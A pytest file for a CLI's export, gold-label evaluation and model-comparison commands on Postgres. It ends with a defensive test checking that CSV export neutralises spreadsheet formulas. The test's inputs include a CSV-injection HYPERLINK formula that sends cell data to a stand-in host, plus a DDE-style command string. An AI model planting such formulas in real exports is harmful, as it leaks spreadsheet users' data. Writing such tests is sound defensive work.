"""export, eval and compare against stored results on the real Postgres."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner
from sqlalchemy import text

from db import ledger
from db.engine import transaction
from db.sources import ingest_conversations
from fleet.cli import main
from tests.support import conversations, write_jsonl


def _env(db_url, broker_url, tmp_path, models=None):
    env = {
        "DATABASE_URL": db_url,
        "BROKER_URL": broker_url,
        "FLEET_STATE_DIR": str(tmp_path / "state"),
    }
    if models:
        env["FLEET_MODELS_DIR"] = str(models)
    return env


def _finish(
    db_url: str,
    labels: dict[str, str],
    failed: dict[str, str],
    crm: dict[str, str] | None = None,
) -> None:
    """Six ingested conversations (c000000..c000005) with intent results; `crm` adds a
    copy of some of those ids held by the source 'crm', with its own label."""
    crm = crm or {}
    with transaction(db_url) as s:
        ingest_conversations(s, conversations(6))
        for eid in crm:
            s.execute(
                text(
                    "INSERT INTO conversations (source, external_id, messages) "
                    'VALUES (\'crm\', :e, \'[{"role": "user", "content": "crm"}]\')'
                ),
                {"e": eid},
            )
        ledger.discover(s, task="intent", source_kind="conversation")
    n = 6 + len(crm)
    with transaction(db_url) as s:
        (batch,) = ledger.claim_batches(s, task="intent", limit=n, batch_size=n, lease_seconds=60)
    with transaction(db_url) as s:
        ledger.start_batch(
            s, batch_id=batch.batch_id, item_ids=batch.item_ids, worker="w", lease_seconds=60
        )
        ext = {
            item: (source, eid)
            for item, source, eid in s.execute(
                text(
                    "SELECT w.id, c.source, c.external_id FROM work_items w "
                    "JOIN conversations c ON c.id = w.source_id"
                )
            ).all()
        }
        outcomes = []
        for item_id in batch.item_ids:
            source, e = ext[item_id]
            if source is None and e in failed:
                outcomes.append(ledger.Outcome(item_id, None, failed[e]))
            else:
                label = crm[e] if source == "crm" else labels[e]
                outcomes.append(
                    ledger.Outcome(
                        item_id,
                        {
                            "label": label,
                            "confidence": 0.9,
                            "scores": {label: 0.9},
                            "output": None,
                            "model_name": "m",
                            "model_tier": 0,
                            "device": "cpu",
                            "latency_ms": 10.0 + len(e),
                        },
                    )
                )
        ledger.finish_batch(s, batch_id=batch.batch_id, outcomes=outcomes)


LABELS = {"c000000": "a", "c000001": "b", "c000002": "a", "c000003": "b", "c000004": "a"}


def test_export_jsonl_csv_individual(db_url, broker_url, tmp_path):
    _finish(db_url, LABELS, {"c000005": "conversation has no messages"})
    env = _env(db_url, broker_url, tmp_path)
    runner = CliRunner()
    out = runner.invoke(main, ["export", "-t", "intent"], env=env)
    assert out.exit_code == 0, out.output
    rows = [json.loads(line) for line in out.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 6
    assert {r["external_id"]: r["label"] for r in rows if r["status"] == "done"} == LABELS
    assert [r["error"] for r in rows if r["status"] == "failed"] == ["conversation has no messages"]

    path = tmp_path / "r.csv"
    assert (
        runner.invoke(
            main,
            ["export", "-t", "intent", "--format", "csv", "-o", str(path), "--status", "done"],
            env=env,
        ).exit_code
        == 0
    )
    table = list(csv.DictReader(io.StringIO(path.read_text())))
    assert len(table) == 5 and json.loads(table[0]["scores"]) == {table[0]["label"]: 0.9}

    folder = tmp_path / "items"
    res = runner.invoke(
        main, ["export", "-t", "intent", "--individual", "--output-dir", str(folder)], env=env
    )
    assert res.exit_code == 0, res.output
    assert sorted(p.name for p in folder.iterdir()) == [f"c00000{i}.json" for i in range(6)]
    assert json.loads((folder / "c000001.json").read_text())["label"] == "b"
    assert runner.invoke(main, ["export", "-t", "intent", "--individual"], env=env).exit_code == 2


def test_eval_against_gold(db_url, broker_url, tmp_path):
    _finish(db_url, LABELS, {"c000005": "bad"})
    gold = write_jsonl(
        tmp_path / "gold.jsonl",
        [
            {"external_id": "c000000", "label": "a"},
            {"external_id": "c000001", "label": "a"},
            {"external_id": "c000002", "label": "a"},
            {"external_id": "c000003", "label": "b"},
            {"external_id": "c000005", "label": "b"},
            {"external_id": "nope", "label": "b"},
        ],
    )
    res = CliRunner().invoke(
        main,
        ["eval", "-t", "intent", "--gold", str(gold), "--json"],
        env=_env(db_url, broker_url, tmp_path),
    )
    assert res.exit_code == 0, res.output
    report = json.loads(res.stdout.splitlines()[-1])
    assert report["n"] == 5 and report["accuracy"] == 3 / 5
    assert report["confusion"]["a"]["b"] == 1 and report["confusion"]["b"]["(none)"] == 1
    assert report["not_in_task"] == 1 and report["not_done"] == 1
    assert report["latency_ms"]["p50"] > 0
    # Four scored rows carry a confidence (0.9 each), three right: ECE |0.75 - 0.9|.
    assert report["ece"] == pytest.approx(0.15) and report["no_confidence"] == 1
    assert report["reliability"][8]["n"] == 4 and report["uncalibrated"] == 0
    human = CliRunner().invoke(
        main, ["eval", "-t", "intent", "--gold", str(gold)], env=_env(db_url, broker_url, tmp_path)
    )
    assert "ECE 0.150 (10 bins)" in human.output
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"external_id": "x"}\n')
    res = CliRunner().invoke(
        main, ["eval", "-t", "intent", "--gold", str(bad)], env=_env(db_url, broker_url, tmp_path)
    )
    assert res.exit_code == 2 and "bad.jsonl:1" in res.output
    assert "this line has no label" in res.output and '{"external_id": "x"}' in res.output
    assert report["latency_ms"]["sub_batches"] == 1 and report["unknown_gold_labels"] == {}


def test_eval_warns_on_gold_labels_the_model_lacks_and_about_one_sub_batch(
    db_url, broker_url, tmp_path
):
    _finish(db_url, LABELS, {"c000005": "bad"})
    gold = write_jsonl(
        tmp_path / "gold.jsonl",
        [
            {"external_id": "c000000", "label": "a"},
            {"external_id": "c000001", "label": "professionnal"},  # a typo
            {"external_id": "c000002", "label": "professionnal"},
        ],
    )
    res = CliRunner().invoke(
        main, ["eval", "-t", "intent", "--gold", str(gold)], env=_env(db_url, broker_url, tmp_path)
    )
    assert res.exit_code == 0, res.output
    assert "gold labels the model does not have: professionnal (2)" in res.stderr
    assert "one sub-batch: no p50/p95" in res.stdout and "p95 " not in res.stdout


def test_eval_of_an_id_two_sources_hold(db_url, broker_url, tmp_path):
    # c000001 is held by `fleet ingest` (label b) and by the source crm (label a).
    _finish(db_url, LABELS, {"c000005": "bad"}, crm={"c000001": "a"})
    env = _env(db_url, broker_url, tmp_path)
    gold = write_jsonl(
        tmp_path / "gold.jsonl",
        [
            {"external_id": "c000000", "label": "a"},
            {"external_id": "c000001", "label": "b"},
            {"external_id": "c000002", "label": "a"},
        ],
    )

    def run(*args: str, path=gold):
        res = CliRunner().invoke(
            main, ["eval", "-t", "intent", "--gold", str(path), *args], env=env
        )
        assert res.exit_code == 0, res.output
        return res

    # Unscored, not applied to both: the text output says so and what to do.
    res = run()
    assert "n=2" in res.stdout
    assert "1 gold ids are held by more than one source and were not scored" in res.stderr
    assert "pass --source" in res.stderr
    both = json.loads(run("--json").stdout.splitlines()[-1])
    assert (both["n"], both["accuracy"], both["ambiguous"], both["not_in_task"]) == (2, 1.0, 1, 0)
    ingest = json.loads(run("--source", "ingest", "--json").stdout.splitlines()[-1])
    assert (ingest["n"], ingest["accuracy"], ingest["ambiguous"]) == (3, 1.0, 0)
    crm = json.loads(run("--source", "crm", "--json").stdout.splitlines()[-1])
    assert (crm["n"], crm["accuracy"], crm["not_in_task"]) == (1, 0.0, 2)  # crm said a
    assert "more than one source" not in run("--source", "ingest").stderr
    # A source no item of the task comes from (a misspelt name) is an error
    # naming the sources there are, not a report that scored nothing.
    typo = CliRunner().invoke(
        main, ["eval", "-t", "intent", "--gold", str(gold), "--source", "cmr"], env=env
    )
    assert typo.exit_code == 2
    assert "no item of task 'intent' comes from source 'cmr'" in typo.output
    assert "'crm', 'ingest'" in typo.output

    # A gold line may name its source (as an export's lines do).
    sourced = write_jsonl(
        tmp_path / "sourced.jsonl",
        [
            {"external_id": "c000000", "label": "a"},
            {"external_id": "c000001", "source": "crm", "label": "a"},
        ],
    )
    named = json.loads(run("--json", path=sourced).stdout.splitlines()[-1])
    assert (named["n"], named["accuracy"], named["ambiguous"]) == (2, 1.0, 0)
    other = run("--source", "ingest", "--json", path=sourced)
    assert json.loads(other.stdout.splitlines()[-1])["other_source"] == 1
    assert "name another source than 'ingest'" in run("--source", "ingest", path=sourced).stderr

    # One id both with and without a source: which item a line means is unclear.
    mixed = write_jsonl(
        tmp_path / "mixed.jsonl",
        [
            {"external_id": "c000001", "label": "b"},
            {"external_id": "c000001", "source": "crm", "label": "a"},
        ],
    )
    res = CliRunner().invoke(main, ["eval", "-t", "intent", "--gold", str(mixed)], env=env)
    assert res.exit_code == 2
    assert "mixed.jsonl:2" in res.output and "give every line of it a 'source'" in res.output


def test_compare_two_models_side_by_side(db_url, broker_url, tiny_models, tmp_path):
    with transaction(db_url) as s:
        ingest_conversations(s, conversations(30))
    out = tmp_path / "cmp.jsonl"
    env = _env(db_url, broker_url, tmp_path, tiny_models)
    res = CliRunner().invoke(
        main,
        [
            "compare",
            "-t",
            "intent",
            "--models",
            "tiny-big",
            "tiny-small",
            "--limit",
            "20",
            "-o",
            str(out),
            "--json",
        ],
        env=env,
    )
    assert res.exit_code == 0, res.output
    report = json.loads(res.stdout.splitlines()[-1])
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert report["n"] == len(lines) == 20
    assert {ln["a"]["model"] for ln in lines} == {"tiny-big"} and {
        ln["b"]["model"] for ln in lines
    } == {"tiny-small"}
    disagree = sum(not ln["agree"] for ln in lines)
    assert report["disagreement_rate"] == disagree / 20
    same = CliRunner().invoke(
        main,
        [
            "compare",
            "-t",
            "intent",
            "--models",
            "tiny-big",
            "tiny-big",
            "--limit",
            "20",
            "-o",
            str(out),
            "--json",
        ],
        env=env,
    )
    assert json.loads(same.stdout.splitlines()[-1])["disagreement_rate"] == 0.0
    assert set(report["seconds"]) == {"a", "b"} and all(v > 0 for v in report["seconds"].values())
    text = CliRunner().invoke(
        main,
        ["compare", "-t", "intent", "--models", "tiny-big", "tiny-small", "--limit", "5"]
        + ["-o", str(out)],
        env=env,
    )
    assert text.exit_code == 0, text.output
    assert "both models run in this process" in text.stderr
    assert "model A (tiny-big): loading and running 5 items on cpu" in text.stderr
    assert re.search(r"model B: 5 items in \d+\.\ds", text.stderr)
    assert re.search(r"in this process on cpu: A \d+\.\ds, B \d+\.\ds\)", text.stdout)
    assert "Loading weights" not in text.output  # no model-loading bars


FORMULA_IDS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_export_csv_neutralises_formulas(db_url, broker_url, tmp_path):
    """Every cell a spreadsheet would run as a formula is written with a leading `'`
    (OWASP): external ids, a failed item's error, the label and the output text."""
    records = [
        {"external_id": eid, "messages": [{"role": "user", "content": f"hello {i}"}]}
        for i, eid in enumerate(FORMULA_IDS)
    ]
    with transaction(db_url) as s:
        ingest_conversations(s, records)
        ledger.discover(s, task="intent", source_kind="conversation")
    n = len(records)
    with transaction(db_url) as s:
        (batch,) = ledger.claim_batches(s, task="intent", limit=n, batch_size=n, lease_seconds=60)
    with transaction(db_url) as s:
        ledger.start_batch(
            s, batch_id=batch.batch_id, item_ids=batch.item_ids, worker="w", lease_seconds=60
        )
        first, *rest = batch.item_ids
        outcomes = [ledger.Outcome(first, None, "=/tmp/a.wav|cmd: cannot read")]
        for item_id in rest:
            result = {
                "label": "-neg",
                "confidence": 0.5,
                "scores": {"-neg": 0.5},
                "output": "@mention",
                "model_name": "m",
                "model_tier": 0,
                "device": "cpu",
                "latency_ms": 3.0,
            }
            outcomes.append(ledger.Outcome(item_id, result))
        ledger.finish_batch(s, batch_id=batch.batch_id, outcomes=outcomes)

    path = tmp_path / "r.csv"
    res = CliRunner().invoke(
        main,
        ["export", "-t", "intent", "--format", "csv", "-o", str(path)],
        env=_env(db_url, broker_url, tmp_path),
    )
    assert res.exit_code == 0, res.output
    with path.open(newline="") as f:  # keep a cell's \r as written
        table = list(csv.DictReader(f))
    assert sorted(r["external_id"] for r in table) == sorted("'" + e for e in FORMULA_IDS)
    cells = [v for r in table for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    assert [r["error"] for r in table if r["status"] == "failed"] == [
        "'=/tmp/a.wav|cmd: cannot read"
    ]
    done = [r for r in table if r["status"] == "done"]
    assert {r["label"] for r in done} == {"'-neg"} and {r["output"] for r in done} == {"'@mention"}
    assert {r["confidence"] for r in done} == {"0.5"}
